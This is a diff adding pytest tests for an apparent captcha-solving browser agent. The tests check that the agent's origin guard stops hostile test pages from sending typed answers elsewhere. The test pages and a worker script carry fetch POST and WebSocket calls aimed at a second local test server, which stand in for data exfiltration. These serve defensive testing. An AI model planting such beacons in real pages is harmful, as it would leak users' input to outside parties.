@@ -2,18 +2,28 @@
 
 from __future__ import annotations
 
+import asyncio
 from collections.abc import Callable
 from pathlib import Path
+from typing import cast
 
 import pytest
-from playwright.sync_api import Browser, sync_playwright
+from playwright.async_api import async_playwright
+from playwright.sync_api import Browser, Page, sync_playwright
 
 from capslice import new_page
 from capslice.agent.browser.launch import system_browser
 from capslice.agent.browser.own_browser import OwnBrowser
+from capslice.agent.browser.session import own_session
+from capslice.agent.browser.sync_async import result, run_synchronously
+from capslice.agent.page.blocked import Blocked
+from capslice.agent.page.captcha_page import CaptchaPage
+from capslice.agent.page.enforcement import Enforcement
+from capslice.agent.page.events import PageEvents
 from capslice.agent.page.sync_captcha_page import SyncCaptchaPage
+from capslice.agent.rules.guard import Guard
 from capslice.agent.settings import Browser as BrowserSettings
-from capslice.agent.settings import Target
+from capslice.agent.settings import Selectors, Target
 from capslice.errors import OriginNotAllowed
 from tests.agent.conftest import Answer, Site
 from tests.conftest import in_a_thread
@@ -24,6 +34,11 @@ Sites = Callable[[str], tuple[Target, Site]]
 PAGES = Path(__file__).with_name("hostile")
 FETCHED_AHEAD = ("prefetch", "prerender")
 AT_THE_END = ("frame_at_the_end", "post_into_a_frame", "many_frames")
+# Pages that send something elsewhere: on their own, or as soon as an answer is typed.
+ACTS = ("acts", "answer_in_an_address")
+WORKER = """
+fetch("{there}x", {method: "POST", mode: "no-cors", body: "x"});
+new WebSocket("{there}x".replace("http", "ws"));"""
 
 
 @pytest.fixture
@@ -32,8 +47,11 @@ def attack(site: Start) -> Sites:
 
     def attack(name: str) -> tuple[Target, Site]:
         there = site({"/x": Answer(b'<input id="input">')})
-        html = (PAGES / f"{name}.html").read_text("utf-8").replace("{there}", there.url)
-        here = site({"/": Answer(html.encode())})
+        html, worker = (
+            text.replace("{there}", there.url).encode()
+            for text in ((PAGES / f"{name}.html").read_text("utf-8"), WORKER)
+        )
+        here = site({"/": Answer(html), "/worker.js": Answer(worker, kind="text/javascript")})
         selectors = {"input": "#input"}
         url = here.url
         return Target.model_validate(
@@ -44,7 +62,7 @@ def attack(site: Start) -> Sites:
 
 
 def test_every_page_is_tried() -> None:
-    assert {page.stem for page in PAGES.iterdir()} == {*FETCHED_AHEAD, *AT_THE_END}
+    assert {page.stem for page in PAGES.iterdir()} == {*FETCHED_AHEAD, *AT_THE_END, *ACTS, "peers"}
 
 
 @pytest.mark.parametrize("name", [*FETCHED_AHEAD, *AT_THE_END])
@@ -65,6 +83,133 @@ def test_nothing_leaves_a_page_of_our_own(name: str, attack: Sites, tmp_path: Pa
 
     in_a_thread(visit)
     assert there.log == []
+
+
+async def act(page: Page, target: Target) -> CaptchaPage:
+    """Open the page, type an answer, give the page time to send it, and leave."""
+    captcha_page = CaptchaPage(page, target, 3)
+    await captcha_page.attach()
+    await captcha_page.open()
+    await result(page.wait_for_timeout(300))
+    await captcha_page.type_answer("526328")
+    await result(page.wait_for_timeout(300))
+    await captcha_page.open()
+    return captcha_page
+
+
+@pytest.mark.parametrize("name", ACTS)
+def test_nothing_is_sent_elsewhere(name: str, attack: Sites) -> None:
+    target, there = attack(name)
+
+    def visit() -> Blocked:
+        with OwnBrowser(BrowserSettings()) as own:
+            return run_synchronously(act(own.new_page(), target)).events.blocked
+
+    blocked = in_a_thread(visit)
+    assert there.log == []
+    assert any(there.url in line for line in blocked.lines)
+    assert set(blocked.sent_away) == ({there.url.rstrip("/")} if name != "acts" else set())
+    if name == "acts":
+        assert f"WebSocket {there.url.replace('http', 'ws')}x" in blocked.lines
+
+
+@pytest.mark.parametrize("name", ACTS)
+def test_nothing_is_sent_from_a_callers_page(name: str, attack: Sites, browser: Browser) -> None:
+    target, there = attack(name)
+    page = new_page(browser)
+    captcha_page = run_synchronously(act(page, target))
+    assert there.log == []
+    run_synchronously(captcha_page.detach())
+    # The page is the caller's again.
+    page.evaluate("url => fetch(url, {method: 'POST', mode: 'no-cors'})", there.url + "y")
+    assert "POST /y" in there.log
+    page.context.close()
+
+
+@pytest.mark.parametrize("name", ACTS)
+def test_nothing_is_sent_with_the_asynchronous_api(name: str, attack: Sites) -> None:
+    target, there = attack(name)
+
+    async def visit() -> None:
+        async with async_playwright() as playwright:
+            browser = await playwright.chromium.launch(executable_path=system_browser())
+            page = cast(Page, await browser.new_page())
+            await act(page, target)
+            await result(page.context.close())
+
+    in_a_thread(asyncio.run, visit())
+    assert there.log == []
+
+
+@pytest.mark.parametrize("name", ACTS)
+def test_nothing_is_sent_in_other_browsers(name: str, attack: Sites, browser: Browser) -> None:
+    """Like Firefox and WebKit, where Playwright intercepts the requests."""
+    target, there = attack(name)
+    page = own_session(browser, BrowserSettings()).new_page()
+    guard = Guard(target.allowed_origins)
+    events = PageEvents(page, guard, page.locator(":root"), Selectors(), ())
+    enforcement = Enforcement(page, guard, events)
+    run_synchronously(enforcement.start(by_routes=True))
+    # These browsers do not intercept what a worker does that has a file or several pages.
+    html = page.request.get(target.url).text().splitlines()
+    known = [line for line in html if "SharedWorker" not in line and "/worker.js" not in line]
+    page.route(
+        target.url, lambda route: route.fulfill(body="\n".join(known), content_type="text/html")
+    )
+    page.goto(target.url)
+    page.wait_for_timeout(300)
+    run_synchronously(enforcement.watch_for("526328"))
+    page.fill("#input", "526328")
+    page.wait_for_timeout(300)
+    page.context.close()
+    assert there.log == []
+
+
+def test_no_page_of_our_own_connects_to_a_peer(attack: Sites) -> None:
+    target, _ = attack("peers")
+
+    def visit() -> str | None:
+        with OwnBrowser(BrowserSettings()) as own:
+            page = own.new_page()
+            with SyncCaptchaPage(page, target, 3) as captcha_page:
+                captcha_page.open()
+            return page.locator(":root").get_attribute("data-peers")
+
+    assert in_a_thread(visit) == "0"
+
+
+@pytest.mark.parametrize("name", ACTS)
+def test_each_page_sends_something_without_the_guard(
+    name: str, attack: Sites, browser: Browser
+) -> None:
+    """Otherwise the tests above would prove nothing."""
+    target, there = attack(name)
+    with browser.new_context() as context:
+        page = context.new_page()
+        page.goto(target.url)
+        page.fill("#input", "526328")
+        page.wait_for_timeout(500)
+    methods = {line.partition(" ")[0] for line in there.log}
+    assert methods >= ({"POST", "GET", "OPTIONS"} if name == "acts" else {"GET"})
+
+
+KINDS = '<img src="{there}i"><link rel=stylesheet href="{there}s"><script src="{there}j"></script>'
+READ = "<input id=input><script>fetch('{there}f', {{mode: 'no-cors'}}).catch(() => 0)</script>"
+
+
+@pytest.mark.parametrize(
+    ("subresources", "expected"), [("passive", "ijs"), ("all", "fijs"), ("none", "")]
+)
+def test_what_a_page_may_load_from_elsewhere(
+    subresources: str, expected: str, site: Start, visit: Callable[..., SyncCaptchaPage]
+) -> None:
+    there = site({})
+    here = site({"/": Answer((KINDS + READ).format(there=there.url).encode())})
+    origins = (here.url.rstrip("/"),)
+    captcha_page = visit(here.url, allowed_origins=origins, subresources=subresources)
+    captcha_page.open()
+    captcha_page.page.wait_for_load_state("networkidle")
+    assert "".join(sorted(line[-1] for line in there.log)) == expected
 
 
 @pytest.mark.parametrize("name", FETCHED_AHEAD)
